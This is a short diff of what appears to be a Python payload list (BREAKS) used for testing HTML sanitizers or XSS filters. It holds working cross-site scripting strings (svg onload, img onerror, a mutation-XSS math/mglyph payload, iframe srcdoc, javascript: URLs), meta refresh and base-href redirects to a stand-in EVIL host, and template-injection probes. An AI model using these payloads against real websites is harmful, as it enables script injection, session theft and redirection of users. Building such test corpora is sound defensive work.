@@ -30,7 +30,7 @@ BREAKS = (
     f"' onmouseover='{RUN}' x=\"",
     f"--><!--><svg/onload={FIRST}>",
     f']]><svg><style><img src=x onerror="{RUN}"></style></svg>',
-    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN.split(";")[0]}&gt;">',
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={FIRST}&gt;">',
     f"<iframe srcdoc='{SCRIPT}'></iframe><object data='javascript:{RUN}'></object>",
     f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'><base href={EVIL}/><link rel=stylesheet href={EVIL}/x.css>",
     f"{{{{ 7*7 }}}}{{% raw %}}<% {RUN} %>${{{RUN}}}",
